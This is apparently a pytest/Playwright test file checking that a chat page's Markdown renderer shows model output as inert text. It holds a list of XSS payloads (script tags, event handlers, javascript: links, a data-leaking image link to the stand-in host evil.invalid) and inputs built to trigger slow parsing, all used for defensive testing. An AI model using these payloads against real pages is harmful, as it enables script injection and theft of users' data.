"""Model output is hostile: whatever it says is shown as text, loads nothing, runs nothing, and takes time in proportion to its length."""

from __future__ import annotations

import random

import pytest
from page_server import Answer

pytest_plugins = ("page_fixtures",)

RENDER = """async (pieces) => {
  const { Markdown } = await import('/page/markdown.js');
  const root = document.createElement('div');
  root.className = 'body markdown-body';
  document.getElementById('log').replaceChildren(root);
  const shown = new Markdown(root);
  const start = performance.now();
  for (const piece of pieces) shown.push(piece);
  root.getBoundingClientRect();
  return { html: root.innerHTML, seconds: (performance.now() - start) / 1000 };
}"""
EVIL = "http://evil.invalid/"
HOSTILE = {
    "script": f"<script>window.pwned = 1; fetch('{EVIL}')</script>",
    "onerror": f"<img src=x onerror='window.pwned = 1'><img src={EVIL}a.png><svg onload='window.pwned=1'><iframe src={EVIL}></iframe>",
    "picture": f"![secret]({EVIL}leak?data=secret) ![x](data:image/svg+xml,<svg onload=pwned=1>) ![]({EVIL})",
    "javascript": "[click](javascript:window.pwned=1) [x](JaVaScRiPt:pwned=1) [y](java\tscript:pwned=1) [z]( javascript:pwned=1) <javascript:pwned=1> [v](vbscript:x)",
    "other schemes": f"[a](data:text/html,<script>pwned=1</script>) [b](file:///etc/passwd) [c](blob:{EVIL}) [d](//evil.invalid) [e](/v1/models) [f](#x)",
    "attributes": f'[a]({EVIL}"onmouseover="pwned=1) [a]({EVIL} "x" onclick=pwned=1) `" onclick=pwned=1` ```html" onload="pwned=1',
    "style": f"<style>@import '{EVIL}';</style><div style='background:url({EVIL})'>x</div><link rel=stylesheet href={EVIL}><base href={EVIL}>",
    "form": f"<form action={EVIL}><input name=a autofocus onfocus=pwned=1></form><meta http-equiv=refresh content='0;url={EVIL}'>",
    "broken fences": "```js\nwindow.pwned = 1\n~~~\n````\n``\n```` ```\n<script>pwned=1</script>\n```\n`unclosed <img src=x onerror=pwned=1>",
    "language": '```"><script>pwned=1</script>\ncode\n```\n\n~~~ <img/onerror=pwned=1>\ncode',
    "table": f"| a | <script>pwned=1</script> |\n|---|---|\n| ![x]({EVIL}) | [x](javascript:pwned=1) | more | cells |\n|",
    "entities": "&lt;script&gt; &#60;script&#62;pwned=1&#60;/script&#62; \\<script>pwned=1\\</script>",
    "nested": f"[![x]({EVIL}a)]({EVIL}b) [[a](javascript:pwned=1)]({EVIL}) **[*<script>*](javascript:pwned=1)**",
    "templates": "{{constructor.constructor('pwned=1')()}} ${pwned=1} <%= pwned %>",
}
ALLOWED = {"P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "BR", "EM", "STRONG", "DEL", "CODE", "PRE", "A", "SPAN", "DIV", "TABLE", "TR", "TH", "TD", "FIGURE", "FIGCAPTION", "BUTTON"}  # fmt: skip
ATTRIBUTES = {"class", "dir", "href", "rel", "target", "title", "start", "scope", "tabindex", "role", "aria-label", "type"}

LONG = {  # of about n characters
    "letters": lambda n: "x" * n,
    "stars": lambda n: "*" * n,
    "star words": lambda n: "*a " * (n // 3),
    "closing stars": lambda n: "a* " * (n // 3),
    "nested stars": lambda n: "*a " * (n // 6) + "a* " * (n // 6),
    "two delimiters": lambda n: "*a _b " * (n // 12) + "a_ b* " * (n // 12),
    "backticks": lambda n: "".join("`" * (i % 300 + 1) + "a" for i in range(n // 150)),
    "brackets": lambda n: "[" * n,
    "links": lambda n: "[](" * (n // 3),
    "link ends": lambda n: "[a](" * (n // 5) + ")" * (n // 5),
    "pictures": lambda n: "![" * (n // 2),
    "tildes": lambda n: "~~a" * (n // 3),
    "pipes": lambda n: "|" * n + "\n" + "-|" * 900 + "-",
    "quotes": lambda n: ">" * n,
    "deep list": lambda n: "\n".join("  " * (i % 300) + "- a" for i in range(n // 300)),
    "long list": lambda n: "- a\n" * (n // 4),
    "hashes": lambda n: "#" * n,
    "rule": lambda n: "- " * (n // 2) + "x",
    "spaces": lambda n: "-" + " " * n + "x",
    "heading of spaces": lambda n: "# a" + " #" * (n // 2) + "x",
    "addresses": lambda n: "https://" * (n // 8),
    "address ends": lambda n: "https://a" + ")" * n,
    "angles": lambda n: "<https://" * (n // 9),
    "overrides": lambda n: "\u202ea" * (n // 20),
    "lines": lambda n: "a\n" * (n // 2),
    "backslashes": lambda n: "\\" * n,
    "fences": lambda n: "```\n" * (n // 4),
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markdown_is_text(page, server, text):
    """In an answer, in a tool's name and arguments, in a result and in what an error says: nothing runs, loads or follows (the fixture looks)."""
    server.answers.extend(
        [
            Answer(list(text), calls=[(text, text)]),
            Answer(error=(400, {"message": text, "param": "messages"}, {})),
        ]
    )
    page.fill("#draft", text)
    page.press("#draft", "Enter")
    page.fill(".call textarea", text)
    page.press(".call textarea", "Enter")
    page.wait_for_selector(".answer .note")
    page.wait_for_timeout(30)
    found = page.evaluate(
        "[...document.querySelectorAll('#log .body *')].map((e) => [e.tagName, [...e.attributes].map((a) => a.name), e.getAttribute('href')])"
    )
    assert {tag for tag, _, _ in found} <= ALLOWED
    assert {name for _, names, _ in found for name in names} <= ATTRIBUTES
    assert all(href is None or href.startswith(("http://", "https://", "mailto:")) for _, _, href in found)
    assert page.evaluate("window.pwned") is None
    assert page.query_selector_all("#log :is(img, script, iframe, style, form, input)") == []


def test_links_go_nowhere_by_themselves_and_say_where_they_lead(page, server):
    server.answers.append(
        Answer(
            [
                "[my bank](https://evil.invalid/x) https://plain.invalid/a. [mail](mailto:a@b.invalid) [bank.invalid/evil.invalid](https://evil.invalid)"
            ]
        )
    )
    page.fill("#draft", "Links?")
    page.press("#draft", "Enter")
    page.wait_for_selector(".answer a >> nth=3")
    links = page.query_selector_all(".answer .body a")
    assert all(link.get_attribute("rel") == "noopener noreferrer nofollow" for link in links)
    assert [link.get_attribute("href") for link in links] == [
        "https://evil.invalid/x",
        "https://plain.invalid/a",
        "mailto:a@b.invalid",
        "https://evil.invalid/",
    ]
    assert (
        page.inner_text(".answer .body") == "my bank (evil.invalid) https://plain.invalid/a. mail bank.invalid/evil.invalid (evil.invalid)"
    )
    assert page.get_attribute("meta[http-equiv=x-dns-prefetch-control]", "content") == "off"


def test_characters_that_reorder_text_are_shown_instead(page):
    text = "abc \u202etxt.exe\n\n`a\u2066b`\n\n```\nif x: \u202e return\n```\n\nשלום \u200f(ok)"
    page.evaluate(RENDER, [text])
    assert page.inner_text("#log p >> nth=0") == "abc U+202Etxt.exe"
    assert page.inner_text("#log p code") == "aU+2066b"
    assert "U+202E" in page.inner_text("#log pre")
    assert page.inner_text("#log p >> nth=2") == "שלום \u200f(ok)"


def seconds(page, text, *, num_pieces):
    """How long it takes to show `text`: the better of two, for other work on the machine only ever adds."""
    step = len(text) // num_pieces + 1
    pieces = [text[i : i + step] for i in range(0, len(text), step)]
    return min(page.evaluate(RENDER, pieces)["seconds"] for _ in range(2))


@pytest.mark.parametrize("written", LONG.values(), ids=LONG)
def test_long_hostile_text_takes_time_in_proportion_and_no_depth(page, written):
    """A hundred thousand characters take about four times what a quarter of them takes (and not sixteen), at once and in pieces."""
    for num_pieces in (1, 8):
        quarter = seconds(page, written(25_000), num_pieces=num_pieces)
        assert seconds(page, written(100_000), num_pieces=num_pieces) < 9 * quarter + 0.3
    deepest = page.evaluate(
        "(() => { const depth = (e) => { let n = 0; for (; e; e = e.parentElement) n++; return n; }; return Math.max(...[...document.querySelectorAll('#log *')].slice(-5000).map(depth)); })()"
    )
    assert deepest < 60
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_long_answer_leaves_the_page_alive(page, server):
    server.answers.append(Answer(["y" * 50_000, "*z " * 17_000, "\n\nthe end"]))
    page.fill("#draft", "Much?")
    page.press("#draft", "Enter")
    page.wait_for_selector(".answer p:has-text('the end')")
    page.wait_for_selector("#send:visible")


# --- what it means ---

SPOKEN = [
    ("# Title\nwords", "<h3>Title</h3><p>words</p>"),
    (
        "a *b* **c** ***d*** _e_ __f__ ~~g~~ `h`",
        "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <em>e</em> <strong>f</strong> <del>g</del> <code>h</code></p>",
    ),
    ("snake_case_name 2 * 3 * 4 **open", "<p>snake_case_name 2 * 3 * 4 **open</p>"),
    ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    ("*a **b***", "<p><em>a <strong>b</strong></em></p>"),
    ("``a ` b`` \\*c\\*", "<p><code>a ` b</code> *c*</p>"),
    ("`*a*` **`b`**", "<p><code>*a*</code> <strong><code>b</code></strong></p>"),
    ("a\nb", "<p>a<br>b</p>"),
    (
        "- a\n- b\n  - c\n\n1. x\n2. y",
        "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li></ul><ol><li><p>x</p></li><li><p>y</p></li></ol>",
    ),
    ("3) a\n\n   more\n4) b", "<ol><li><p>a</p><p>more</p></li><li><p>b</p></li></ol>"),
    ("* a\n\n* b\n\nc", "<ul><li><p>a</p></li><li><p>b</p></li></ul><p>c</p>"),
    ("- [ ] a\n- [x] b", "<ul><li><p>☐ a</p></li><li><p>☑ b</p></li></ul>"),
    ("- a\n  ```\n  b\n  ```\n- c", "<ul><li><p>a</p>[b]</li><li><p>c</p></li></ul>"),
    ("> a\n> > b\n\nc", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"),
    ("```py\na\n\n  b\n```\nc", "[a\n\n  b]<p>c</p>"),
    ("~~~\n```\n~~~", "[```]"),
    ("```\nnever closed", "[never closed]"),
    ("a\n***\nb", "<p>a</p><hr><p>b</p>"),
    ("| a | b |\n|---|:-:|\n| 1 | x \\| y |\n\nz", "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>x | y</td></tr></table><p>z</p>"),
    ("a | b\n--|--\n1 | **2**", "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td><strong>2</strong></td></tr></table>"),
    ("It costs 5.\n1. first", "<p>It costs 5.</p><ol><li><p>first</p></li></ol>"),
    ("born in\n1986. Then", "<p>born in<br>1986. Then</p>"),
    ("#hash 1.5 -5 +3", "<p>#hash 1.5 -5 +3</p>"),
    ("a\r\n\r\nb", "<p>a</p><p>b</p>"),
    ("", ""),
]
PLAIN = r"""() => {
  const root = document.querySelector('#log > div').cloneNode(true);
  root.querySelectorAll('figure').forEach((figure) => figure.replaceWith('[' + figure.querySelector('code').textContent + ']'));
  root.querySelectorAll('.scroll').forEach((scroll) => scroll.replaceWith(...scroll.childNodes));
  root.querySelectorAll('*').forEach((e) => [...e.attributes].forEach((a) => e.removeAttribute(a.name)));
  return root.innerHTML;
}"""


@pytest.mark.parametrize(("text", "meant"), SPOKEN)
def test_markdown_means_what_models_mean_by_it(page, text, meant):
    page.evaluate(RENDER, [text])
    assert page.evaluate(PLAIN) == meant


def test_an_answer_looks_the_same_however_it_was_cut(page):
    """Random documents of every construct, in random pieces: the same elements as when shown at once."""
    dice = random.Random(7)
    scraps = [text for text, _ in SPOKEN] + list(HOSTILE.values())
    scraps += ["- ", "1", ". ", "\n", "\n\n", "  ", "```", "| a | b |", "|---|", "*", "`", "> ", "#", "---", "\r\n", "\\", "[a](", "https://a.b", ")", "\n  x", "\n1.5", "\n-", "\n-5", "🦙"]  # fmt: skip
    for _ in range(150):
        text = "".join(dice.choice(scraps) + dice.choice(["", "\n", "\n\n", " "]) for _ in range(dice.randint(1, 14)))
        cuts = sorted(dice.randint(0, len(text)) for _ in range(dice.randint(0, 30)))
        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        whole = page.evaluate(RENDER, [text])["html"]
        assert page.evaluate(RENDER, pieces)["html"] == whole, (text, pieces)
    for text in (*scraps, "".join(scraps)):
        assert page.evaluate(RENDER, list(text))["html"] == page.evaluate(RENDER, [text])["html"], text


def test_code_can_be_copied_as_it_was_written(page, server):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    server.answers.append(Answer(["```py\nif x:\n    y = '\u202e'\n```"]))
    page.fill("#draft", "Code?")
    page.press("#draft", "Enter")
    page.click("figure.code button")
    page.wait_for_selector("figure.code button:has-text('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == "if x:\n    y = '\u202e'"
